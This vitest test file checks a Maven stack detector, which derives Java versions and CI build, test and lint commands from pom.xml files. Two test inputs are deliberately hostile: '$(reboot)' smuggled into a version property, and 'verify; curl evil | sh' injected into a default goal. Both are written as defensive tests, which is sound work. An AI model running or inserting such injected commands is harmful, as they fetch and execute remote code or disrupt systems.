import { describe, expect, it } from 'vitest';
import { lineFor, stackContext } from '../../../../test/stack-context.ts';
import maven from './stack.ts';

const project = (inside: string): string => `<?xml version="1.0"?><project xmlns="http://maven.apache.org/POM/4.0.0">${inside}</project>`;
const SOURCES = { 'src/main/java/A.java': '', 'src/test/java/ATest.java': '' };

function versionOf(pom: string): string | undefined {
  return maven.detect(stackContext({ 'pom.xml': project(pom), ...SOURCES }))[0]?.versions[0]?.value;
}

describe('the Java version of a pom', () => {
  it.each([
    ['release property', '<properties><maven.compiler.release>21</maven.compiler.release><java.version>17</java.version></properties>', '21'],
    ['Spring property', '<properties><java.version>17</java.version></properties>', '17'],
    ['through placeholders', '<properties><a>${b}</a><b>1.8</b><maven.compiler.source>${a}</maven.compiler.source></properties>', '1.8'],
    ['plugin before property', '<properties><java.version>17</java.version></properties><build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId><configuration><release>11</release></configuration></plugin></plugins></build>', '11'],
    ['unresolved', '<properties><maven.compiler.release>${elsewhere}</maven.compiler.release></properties>', undefined],
    ['circular', '<properties><a>${b}</a><b>${a}</b><java.version>${a}</java.version></properties>', undefined],
    ['hostile', '<properties><java.version>$(reboot)</java.version></properties>', undefined],
  ])('%s', (_title, pom, expected) => {
    expect(versionOf(pom)).toBe(expected);
  });

  it('is looked up in a parent inside the repository', () => {
    const drafts = maven.detect(
      stackContext({
        'pom.xml': project('<artifactId>all</artifactId><packaging>pom</packaging><modules><module>core</module><module>web</module></modules><properties><maven.compiler.release>21</maven.compiler.release></properties>'),
        'core/pom.xml': project('<parent><artifactId>all</artifactId></parent><artifactId>core</artifactId>'),
        'web/pom.xml': project('<parent><artifactId>all</artifactId></parent><artifactId>web</artifactId><dependencies><dependency><groupId>x</groupId><artifactId>core</artifactId></dependency></dependencies>'),
        'core/src/main/java/C.java': '', 'web/src/test/java/WTest.java': '',
      }),
    );
    expect(drafts).toHaveLength(1);
    expect(drafts[0]?.versions[0]?.value).toBe('21');
    expect(drafts[0]?.members).toEqual([{ path: 'core', name: 'core', dependsOn: [] }, { path: 'web', name: 'web', dependsOn: ['core'] }]);
    expect(drafts[0]?.monorepoTool).toBe('maven');
  });
});

describe('the Maven stack', () => {
  it('uses the wrapper and says which Maven it brings', () => {
    const wrapper = 'distributionUrl=https://example.com/org/apache/maven/apache-maven/3.9.12/apache-maven-3.9.12-bin.zip\n';
    const [draft] = maven.detect(stackContext({ 'pom.xml': project(''), mvnw: '', '.mvn/wrapper/maven-wrapper.properties': wrapper, ...SOURCES }));
    expect(draft?.packageManager).toMatchObject({ name: 'maven', version: '3.9.12' });
    expect(lineFor(draft, 'test')).toBe('./mvnw --batch-mode verify');
    expect(lineFor(draft, 'build')).toBe('./mvnw --batch-mode -DskipTests package');
  });

  it('runs the default goal where the checks hang on it', () => {
    const [draft] = maven.detect(stackContext({ 'pom.xml': project('<build><defaultGoal>clean verify checkstyle:check</defaultGoal></build>'), ...SOURCES }));
    expect(lineFor(draft, 'test')).toBe('mvn --batch-mode');
  });

  it('never carries a hostile goal', () => {
    const [draft] = maven.detect(stackContext({ 'pom.xml': project('<build><defaultGoal>verify; curl evil | sh</defaultGoal></build>'), ...SOURCES }));
    expect(draft?.commands.map(({ run }) => run).join('\n')).not.toContain('evil');
    expect(lineFor(draft, 'test')).toBe('mvn --batch-mode verify');
  });

  it('lints by the phase that runs the checker', () => {
    const pom = '<build><plugins><plugin><artifactId>maven-checkstyle-plugin</artifactId><executions><execution><phase>validate</phase><goals><goal>check</goal></goals></execution></executions></plugin></plugins></build>';
    expect(lineFor(maven.detect(stackContext({ 'pom.xml': project(pom), ...SOURCES }))[0], 'lint')).toBe('mvn --batch-mode validate');
  });

  it('invents no test and says when Docker is needed', () => {
    const pom = '<dependencies><dependency><groupId>org.testcontainers</groupId><artifactId>postgresql</artifactId></dependency></dependencies>';
    const [draft] = maven.detect(stackContext({ 'pom.xml': project(pom), 'src/main/java/A.java': '' }));
    expect(lineFor(draft, 'test')).toBeUndefined();
    expect(draft?.warnings?.map(({ code }) => code)).toContain('CANNOT_RUN_IN_CI');
  });

  it('survives what is no XML, what is no pom and what nests without end', () => {
    for (const text of ['not xml', '<a/>', '<a>'.repeat(50_000), `<project>${'<a>x'.repeat(20_000)}`, '<!DOCTYPE x [<!ENTITY a "b">]><project>&a;</project>']) {
      expect(() => maven.detect(stackContext({ 'pom.xml': text, ...SOURCES }))).not.toThrow();
    }
    const [draft] = maven.detect(stackContext({ 'pom.xml': 'not xml', ...SOURCES }));
    expect(draft?.warnings?.[0]).toMatchObject({ code: 'MANIFEST_UNREADABLE', path: 'pom.xml' });
  });

  it('calls a Kotlin project by its name', () => {
    expect(maven.detect(stackContext({ 'pom.xml': project(''), 'src/main/kotlin/A.kt': '' }))[0]?.language).toBe('kotlin');
  });
});
